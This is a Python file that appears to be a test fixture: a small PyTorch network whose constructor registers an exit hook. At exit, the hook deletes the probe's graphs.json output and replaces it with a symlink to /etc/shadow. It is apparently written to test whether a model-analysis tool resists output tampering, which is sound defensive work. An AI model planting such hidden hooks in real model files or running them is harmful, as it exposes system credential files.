"""A model that leaves something else than files."""

import atexit
import os
from pathlib import Path

import torch
from torch import nn


def replace():
    """Runs when the probe has written its files."""
    result = Path(os.environ["OUTPUT_FOLDER"]) / "result.json"
    graphs = result.with_name("graphs.json")
    graphs.unlink()
    graphs.symlink_to("/etc/shadow")


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        atexit.register(replace)
        self.conv = nn.Conv2d(1, 8, 3)
        self.norm = nn.BatchNorm2d(8)
        self.drop = nn.Dropout(0.1)
        self.fc = nn.Linear(8, 10)

    def forward(self, x):
        x = self.drop(torch.relu(self.norm(self.conv(x))))
        return self.fc(x.mean(dim=(2, 3)))
